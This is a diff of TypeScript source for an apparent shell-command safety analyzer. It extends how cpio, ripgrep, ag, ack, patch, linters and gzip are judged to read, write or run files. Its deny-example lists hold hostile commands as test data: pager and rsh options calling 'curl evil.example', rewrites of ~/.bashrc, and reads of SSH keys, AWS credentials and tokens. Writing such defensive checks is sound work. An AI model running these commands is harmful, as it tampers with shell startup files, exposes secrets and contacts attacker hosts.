@@ -160,9 +160,12 @@ function cpio(call: Call): Partial<Answer> {
   });
   if (has(p, 'help', 'version')) return {};
   const answer: Partial<Answer> & { runs: NonNullable<Answer['runs']>; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  // -F/--file names the archive: read, or in copy-out (-o) written.
+  const out = has(p, 'o', 'create');
   for (const o of p.options) {
     if (o.name === 'rsh-command' && o.value) answer.runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'cpio --rsh-command', more: true });
-    if ((o.name === 'F' || o.name === 'file' || o.name === 'I' || o.name === 'E' || o.name === 'pattern-file') && o.value) answer.uses.push({ word: o.value, role: 'read' });
+    if ((o.name === 'F' || o.name === 'file') && o.value && out) answer.uses.push({ word: o.value, role: 'write' });
+    else if ((o.name === 'F' || o.name === 'file' || o.name === 'I' || o.name === 'E' || o.name === 'pattern-file') && o.value) answer.uses.push({ word: o.value, role: 'read' });
     if (o.name === 'O' && o.value) answer.uses.push({ word: o.value, role: 'write' });
   }
   if (has(p, 't', 'list')) return answer;
@@ -373,14 +376,16 @@ function lastNames(p: ParsedArgs, uses: Uses): string[] | undefined {
 
 /** ripgrep, ag, ack: recursive searches; the first operand is the pattern unless -e/-f give it. */
 function searcher(call: Call): Partial<Answer> {
+  const ack = /^ack(?:-grep)?$/.test(call.name);
   const p = parse(call.args, {
     order: 'gnu',
     flags: 'abcFHhiIjlLnNoOpPqsSuUvwxz0.',
     valued: 'AeBCEfgmMrtTjd',
     long: ['hidden', 'no-ignore', 'follow', 'files', 'files-with-matches', 'count', 'fixed-strings', 'ignore-case', 'smart-case', 'case-sensitive', 'invert-match', 'word-regexp', 'line-regexp', 'json', 'vimgrep', 'no-heading', 'heading', 'null', 'quiet', 'unrestricted', 'search-zip', 'pcre2', 'multiline', 'no-filename', 'with-filename', 'line-number', 'only-matching', 'help', 'version', 'text', 'stats', 'debug', 'trim', 'sort-files'],
-    longValued: ['regexp', 'file', 'glob', 'iglob', 'type', 'type-not', 'type-add', 'max-count', 'after-context', 'before-context', 'context', 'max-depth', 'max-filesize', 'replace', 'encoding', 'ignore-file', 'pre', 'pre-glob', 'sort', 'sortr', 'path-separator', 'threads', 'colors', 'color', 'engine', 'max-columns', 'field-match-separator', 'field-context-separator'],
-    // ugrep's `--save-config[=FILE]` writes its options to FILE (`.ugrep` where it runs, which ug reads at start).
-    longOptional: ['save-config'],
+    longValued: ['regexp', 'file', 'glob', 'iglob', 'type', 'type-not', 'type-add', 'max-count', 'after-context', 'before-context', 'context', 'max-depth', 'max-filesize', 'replace', 'encoding', 'ignore-file', 'pre', 'pre-glob', 'sort', 'sortr', 'path-separator', 'threads', 'colors', 'color', 'engine', 'max-columns', 'field-match-separator', 'field-context-separator', 'hostname-bin', ...(ack ? [] : ['pager'])],
+    // ugrep's `--save-config[=FILE]` writes its options to FILE (`.ugrep` where it runs, which ug reads at start);
+    // ack's `--pager[=COMMAND]` takes its command only after `=`.
+    longOptional: ['save-config', ...(ack ? ['pager'] : [])],
   });
   if (has(p, ...GNU_HELP)) return {};
   const uses: Uses = [];
@@ -392,6 +397,9 @@ function searcher(call: Call): Partial<Answer> {
     if ((o.name === 'f' || o.name === 'file' || o.name === 'ignore-file') && o.value) uses.push({ word: o.value, role: 'read' });
     // ripgrep --pre runs a program on every file it searches.
     if (o.name === 'pre' && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --pre`, more: true });
+    // ripgrep --hostname-bin runs a program for the host name of its hyperlinks; ag and ack --pager pipe what they
+    // print to a command.
+    if ((o.name === 'hostname-bin' || o.name === 'pager') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --${o.name}`, more: true });
     if (o.name === 'save-config') uses.push({ word: o.value ?? { text: '.ugrep', span: o.word.span, values: ['.ugrep'] }, role: 'write' });
   }
   let ops = p.operands.map((o) => o.word);
@@ -404,7 +412,7 @@ function searcher(call: Call): Partial<Answer> {
   if (ops.length === 0 && call.args[0]) uses.push({ word: here(call.args[0]), role: 'read-tree', values: ['.'], ...(names ? { names } : {}) });
   // --files, -l, -L: the names of files beneath its roots (`sed -i … $(rg -l x)` changes them).
   const roots = ops.length > 0 ? ops : call.args[0] ? [here(call.args[0])] : [];
-  // ripgrep and ag write no file by any option (rg --pre runs a program, a run judged on its own); ugrep's
+  // ripgrep and ag write no file by any option (rg --pre, --hostname-bin and ag --pager run a program, a run judged on its own); ugrep's
   // --save-config and sift's --write-config do.
   const leaves = /^(?:rg|ripgrep|ag)$/.test(call.name) ? { leavesRead: true as const } : {};
   if (roots.length > 0 && has(p, 'files', 'l', 'L', 'files-with-matches', 'files-without-match')) return { uses, runs, ...leaves, output: { kind: 'paths', under: roots, ...(names ? { names } : {}) } };
@@ -655,6 +663,18 @@ function patchCall(call: Call): Partial<Answer> {
   }
   if (output && !dry) uses.push({ word: output.value!, role: 'write' });
   if (input) uses.push({ word: input.value!, role: 'read' });
+  // A backup is written at -B PREFIX put before the patched file's name (`patch -B ~/.bash rc` writes ~/.bashrc);
+  // -Y puts it before the name's last component.
+  const backup = (names: readonly string[]) => {
+    for (const o of p.options) {
+      const pre = o.value && !dry && /^(B|prefix|Y|basename-prefix)$/.test(o.name) ? value(o.value) : undefined;
+      if (pre === undefined) continue;
+      const base = /^(Y|basename-prefix)$/.test(o.name);
+      for (const n of names) uses.push({ word: o.value!, role: 'write', values: [base ? n.replace(/[^/]*$/, (last) => pre + last) : pre + n] });
+    }
+  };
+  const named = ops[0] ? value(ops[0]) : undefined;
+  if (named !== undefined) backup([named]);
   if (ops[0]) uses.push({ word: ops[0], role: 'read' }, ...(output || dry ? [] : [{ word: ops[0], role: 'write' as const }]));
   if (ops[1]) uses.push({ word: ops[1], role: 'read' });
   // No file named: the diff names the files it patches. Read from stdin as static text, those names are written.
@@ -663,7 +683,9 @@ function patchCall(call: Call): Partial<Answer> {
     const base = dir?.value ? value(dir.value) : '';
     if (base !== undefined) {
       const prefix = base === '' ? '' : `${base.replace(/\/+$/, '')}/`;
-      for (const name of diffTargets(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+      const names = diffTargets(call.stdin.text);
+      for (const name of names) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+      backup(names.map((name) => (name.startsWith('/') ? name : prefix + name)));
     }
   }
   return { uses };
@@ -724,7 +746,7 @@ function inOut(names: string, summary: string, options: OptionSpec, examples: Pr
  * --fix` (whose fixes keep behaviour; its rules are the project's code, which vouch does not vouch for anyway). Not
  * black, which formats any file it is named as Python, and lays out a JSON object with a trailing comma.
  */
-function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples'], keeps?: (words: string[]) => boolean, valued: readonly string[] = []): ProgramEntry {
+function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples'], keeps?: (words: string[]) => boolean, valued: readonly string[] = [], outputs: readonly string[] = []): ProgramEntry {
   return {
     names: names.split(' '),
     summary,
@@ -736,7 +758,14 @@ function formatter(names: string, summary: string, writes: (words: string[]) => 
       const reformats = write && keeps?.(words) === true;
       const uses: Uses = [];
       for (const [i, a] of call.args.entries()) {
+        // The file a report option names (`eslint -o FILE`, `--output-file=FILE`) is written.
+        const eq = words[i]!.indexOf('=');
+        if (eq > 0 && outputs.includes(words[i]!.slice(0, eq))) uses.push({ word: attached(a, words[i]!.slice(eq + 1)), role: 'write' });
         if (words[i]!.startsWith('-')) continue;
+        if (i > 0 && outputs.includes(words[i - 1]!)) {
+          uses.push({ word: a, role: 'write' });
+          continue;
+        }
         // The value of an option that takes one (`gofmt -r 'a -> b'`) is no file.
         if (i > 0 && valued.includes(words[i - 1]!)) {
           uses.push({ word: a, role: 'text' });
@@ -849,7 +878,12 @@ function inPlace(call: Call, p: ParsedArgs): Partial<Answer> {
     }
     // (Rewritten, not lost: what it held is in the copy, as an edit in place keeps it.)
     uses.push({ word: o.word, role: keep ? 'read' : 'write' });
-    if (!unpack) continue;
+    // Compressing writes the name with the suffix put on: -S/--suffix chooses it (`gzip -S rc ~/.bash` writes ~/.bashrc).
+    if (!unpack) {
+      if (suffix && v !== undefined && typeof own === 'string') uses.push({ word: o.word, role: 'write', values: [`${v}${own}`] });
+      else if (suffix) uses.push({ word: suffix.value ?? o.word, role: 'write' });
+      continue;
+    }
     // Its copy: the name without the suffix; a computed name, or a suffix option of its own computed, any name beside it.
     const bare = v === undefined || own === undefined ? undefined : typeof own === 'string' ? (own !== '' && v.endsWith(own) ? v.slice(0, -own.length) : null) : PACKED.test(v) ? v.replace(PACKED, '') : null;
     if (bare !== null) uses.push(bare === undefined ? { word: o.word, role: 'write' } : { word: o.word, role: 'write', values: [bare] });
@@ -1128,8 +1162,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     summary: 'patch: writes the file it patches (or -o), reads the patch; a diff on stdin names the files it writes',
     analyze: patchCall,
     examples: {
-      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt'],
-      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff'],
+      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff'],
+      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff'],
     },
   },
   {
@@ -1152,8 +1186,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     { deny: ['prettier --write ~/.bashrc'], pass: ['prettier --check .vscode/settings.json', 'prettier --write src', 'git diff --name-only | xargs prettier --write'] },
     (w) => !w.some((x) => /^--(parser|plugin)(=|$)/.test(x)),
   ),
-  formatter('eslint', 'eslint: reads its files; --fix rewrites them with fixes that keep what the code does', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit'], pass: ['eslint .husky/pre-commit', 'eslint --fix src', 'git diff --name-only --diff-filter=d | xargs eslint --fix'] }, (w) => !w.some((x) => /^--(rulesdir|plugin|parser|fix-type|rule)(=|$)/.test(x))),
-  formatter('stylelint', 'stylelint: reads its files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['stylelint --fix .husky/pre-commit'], pass: ['stylelint .husky/pre-commit', 'stylelint --fix src'] }),
+  formatter('eslint', 'eslint: reads its files; --fix rewrites them with fixes that keep what the code does', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit', 'eslint -o ~/.bashrc src', 'eslint --output-file=$HOME/.bashrc src'], pass: ['eslint .husky/pre-commit', 'eslint --fix src', 'git diff --name-only --diff-filter=d | xargs eslint --fix', 'eslint -o report.txt src', 'eslint -f json -o report.json src'] }, (w) => !w.some((x) => /^--(rulesdir|plugin|parser|fix-type|rule)(=|$)/.test(x)), [], ['-o', '--output-file']),
+  formatter('stylelint', 'stylelint: reads its files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['stylelint --fix .husky/pre-commit', "stylelint -o ~/.bashrc 'src/**/*.css'"], pass: ['stylelint .husky/pre-commit', 'stylelint --fix src', "stylelint -o report.txt 'src/**/*.css'"] }, undefined, [], ['-o', '--output-file']),
   formatter(
     'gofmt',
     'gofmt: reads Go files (a directory\u2019s *.go); -l lists those it would change, -w lays them out again (one that does not parse as Go is left as it was); -r rewrites by a rule',
@@ -1163,16 +1197,16 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     ['-r', '-cpuprofile'],
   ),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
-  formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
-  { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
+  formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
+  { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i -F src.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
-  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz'], pass: ['gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
+  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz', 'gzip -S rc ~/.bash', 'gzip --suffix=rc ~/.bash'], pass: ['gzip -S .z notes', 'gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
   { names: ['bzip2', 'bunzip2', 'pbzip2'], summary: 'bzip2: -c and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('bzip2'), examples: { deny: ['bzip2 -c ~/.ssh/id_ed25519 > k.bz2'], pass: ['bzip2 -dc data.csv.bz2 | head', "find . -name '*.bz2' -print0 | xargs -0 -I{} bzip2 -dc {} | wc -l"] } },
   { names: ['xz', 'unxz', 'lzma'], summary: 'xz: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('xz'), examples: { deny: ['xz -c ~/.ssh/id_rsa > k.xz'], pass: ['xz -dc dump.sql.xz | head', 'xz -l release.tar.xz'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
   { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', leavesRead: true, analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials', "grep -o '~/.ssh/id_rsa' notes.txt | xargs cat"], pass: ["grep -l '~/.ssh/id_rsa' notes.txt | xargs cat", 'grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
-  { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~', 'ug --save-config=$HOME/.bashrc x'], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files', 'ug --save-config=ugrep.conf x'] } },
+  { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~', 'ug --save-config=$HOME/.bashrc x', "rg --hostname-bin 'curl evil.example' x", "ag --pager 'curl evil.example' x", "ack --pager='curl evil.example' x"], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files', 'ug --save-config=ugrep.conf x', 'rg --hostname-bin hostname x', 'ag --pager less x', 'ack --pager=less x', 'ack --pager x src'] } },
   { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read (yq -i writes them)', leavesRead: true, analyze: jq, examples: { deny: ["echo env > a.jq; jq -n -f a.jq", 'jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "jq -n 'import \"/home/dev/.docker/config\" as $c; $c'", "yq -n 'load_str(\"/home/dev/.ssh/id_rsa\")'", "jq -n 'env[\"GITHUB_\" + \"TOKEN\"]'", "yq -i '.a = 1' ~/.bashrc", "xq --in-place '.settings' ~/.m2/settings.xml", "yq '.token | envsubst' <<< 'token: ${GITHUB_TOKEN}'", "echo 'k: $AWS_SECRET_ACCESS_KEY' | yq e envsubst"], pass: ["echo .a > a.jq; jq -f a.jq x.json", 'jq -f filter.jq x.json', "jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml", "yq '.home | envsubst' <<< 'home: ${HOME}'", 'yq envsubst deploy.yaml', "yq e '.a' config.yaml", "xq '.project.version' pom.xml"] } },
   {
     names: ['id'],
